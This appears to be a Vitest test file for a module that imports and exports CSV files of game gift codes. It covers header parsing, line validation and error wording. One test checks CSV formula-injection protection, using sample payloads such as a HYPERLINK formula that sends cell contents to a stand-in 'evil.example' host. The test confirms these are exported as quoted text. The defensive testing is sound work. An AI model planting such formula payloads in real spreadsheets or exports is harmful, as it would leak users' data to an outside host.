import { describe, expect, it } from 'vitest';
import { AppError } from './app-error';
import { CODE_CSV_COLUMNS, codeCsvWriter, csvCells, linesAfterHeader, readCodeCsvHeader, readCodeCsvLine, type CodeCsvColumn } from './code-csv';

const header = readCodeCsvHeader('product_slug,region,code,price_usd,price_rub,game_amount,popular');

describe('CSV columns of codes', () => {
  it('finds the known columns by name, in any order and case, ignoring others', () => {
    expect(readCodeCsvHeader(' Code ,Game_Amount,note,product_id,price_rub,price_usd')).toEqual({
      code: 0,
      game_amount: 1,
      product_id: 3,
      price_rub: 4,
      price_usd: 5,
    });
    // An export's own header loads back.
    expect(Object.keys(readCodeCsvHeader(CODE_CSV_COLUMNS.join(',')))).toEqual([...CODE_CSV_COLUMNS]);
  });

  it('refuses a header without a product column or a needed one, naming them', () => {
    for (const [text, missing] of [
      ['code,price_usd,price_rub,game_amount', 'product_id'],
      ['product_slug,code,price_usd,game_amount', 'price_rub'],
      ['STEAM-1,4.99,449,100', 'product_id, code, price_usd, price_rub, game_amount'],
    ] as const) {
      try {
        readCodeCsvHeader(text);
        expect.unreachable();
      } catch (error) {
        expect(error).toBeInstanceOf(AppError);
        expect((error as AppError).status).toBe(400);
        expect(JSON.stringify((error as AppError).details)).toContain(`missing ${missing}`);
      }
    }
  });

  it('reads a line: product by slug or id, region code (empty or "global" for global), popular flag', () => {
    expect(readCodeCsvLine(header, 'steam-tr, tr ,STEAM-1,4.99,449,100,yes')).toEqual({
      code: 'STEAM-1',
      fields: { product: { slug: 'steam-tr' }, region: 'TR', priceUsd: 499, priceRub: 44_900, gameAmount: 100, popular: true },
    });
    expect(readCodeCsvLine(header, 'steam,global,STEAM-2,1,79,5,')).toMatchObject({ fields: { region: null, popular: false } });
    const byId = readCodeCsvHeader('product_id,code,price_usd,price_rub,game_amount');
    expect(readCodeCsvLine(byId, '12,STEAM-3,1,79,5')).toMatchObject({ fields: { product: { id: 12 }, region: null } });
  });

  it('reads quoted fields, commas inside them included', () => {
    expect(csvCells('a,"b,c",d')).toEqual(['a', 'b,c', 'd']);
    expect(readCodeCsvLine(header, 'steam,,"GIFT,CODE ""9""",1,79,5,false')).toMatchObject({ code: 'GIFT,CODE "9"' });
  });

  it('exports a cell a spreadsheet would run as a formula as quoted text, and loads it back as it was', async () => {
    const formulas = ['=HYPERLINK("http://evil.example/?"&A1)', '+1+1', '-2+3', '@SUM(A1)', "'=QUOTED", "''-TWICE"];
    const plain = ['STEAM-1', "'QUOTE-NOT-FORMULA", 'A=B', 'MID-DASH-9'];
    const writer = codeCsvWriter();
    const written = new Promise<string>((resolve, reject) => {
      let text = '';
      writer.on('data', (chunk: Buffer) => (text += chunk.toString()));
      writer.on('end', () => resolve(text));
      writer.on('error', reject);
    });
    const row = (code: string): Partial<Record<CodeCsvColumn, string | number>> => ({ product_slug: 'steam', code, price_usd: '1.00', price_rub: '79.00', game_amount: 5, status: 'available' });
    for (const code of [...formulas, ...plain, '\tTAB', '\rCR']) writer.write(row(code));
    writer.end();
    const [exportedHeader = '', ...lines] = (await written).replace(/^\uFEFF/, '').split('\n').filter((line) => line !== '');

    const codeCells = lines.map((line) => line.split(',')[4]);
    expect(codeCells).toEqual([
      '"\'=HYPERLINK(""http://evil.example/?""&A1)"',
      '"\'+1+1"',
      '"\'-2+3"',
      '"\'@SUM(A1)"',
      '"\'\'=QUOTED"',
      '"\'\'\'-TWICE"',
      ...plain,
      '"\'\tTAB"',
      '"\'\rCR"',
    ]);

    // An exported file loads back as it is (a code never begins with blanks: an import trims them).
    const exported = readCodeCsvHeader(exportedHeader);
    const reread = lines.slice(0, -2).map((line) => readCodeCsvLine(exported, line));
    expect(reread.map((read) => ('code' in read ? read.code : read.error))).toEqual([...formulas, ...plain]);
    // Typed into an import, such a code is stored exactly as typed: nothing runs on the server.
    expect(readCodeCsvLine(header, 'steam,,"=HYPERLINK(""x"")",1,79,5,false')).toMatchObject({ code: '=HYPERLINK("x")' });
    expect(readCodeCsvLine(header, 'steam,,@SUM(A1),1,79,5,false')).toMatchObject({ code: '@SUM(A1)' });
  });

  it('words what is wrong with a bad line', () => {
    const errorOf = (text: string, under = header) => {
      const read = readCodeCsvLine(under, text);
      return 'error' in read ? read.error : 'accepted';
    };
    expect(errorOf(',TR,STEAM-1,4.99,449,100')).toBe('The line names no product: fill product_id or product_slug');
    expect(errorOf('steam,TR,,4.99,449,100')).toBe('The code is empty');
    expect(errorOf('steam,TR,STEAM-1,4.999,449,100')).toContain('more than 2 decimal places');
    expect(errorOf('steam,TR,STEAM-1,4.99,449,0')).toContain('whole number above 0');
    expect(errorOf('steam,TR,STEAM-1,4.99,449,100,maybe')).toBe('popular "maybe" must be true or false');
    expect(errorOf('steam,TR,"STEAM-1,4.99,449,100')).toContain('not valid CSV');
    expect(errorOf('steam,TR,STE••••••AB12,4.99,449,100')).toBe('The code is masked: only codes in clear load');
    const exported = readCodeCsvHeader(CODE_CSV_COLUMNS.join(','));
    expect(errorOf('7,0,x,,,1,79,5,false,used,3,,', exported)).toBe('Only available codes load; this one is used');
    expect(errorOf('1,abc,,,STEAM-1,1,79,5,false,available,,,', exported)).toBe('product_id "abc" is not a product id');
  });

  it('takes the first line that is not blank as the header, and refuses an empty file', async () => {
    const headers: string[] = [];
    const lines = [
      { number: 1, text: '' },
      { number: 2, text: 'code,price_usd' },
      { number: 3, text: 'A,1' },
    ];
    const rest = [];
    for await (const line of linesAfterHeader(lines, (text) => headers.push(text))) rest.push(line.number);
    expect({ headers, rest }).toEqual({ headers: ['code,price_usd'], rest: [3] });

    const empty = linesAfterHeader([{ number: 1, text: ' ' }], () => undefined);
    await expect(empty.next()).rejects.toMatchObject({ status: 400, message: 'The file is empty' });
  });
});
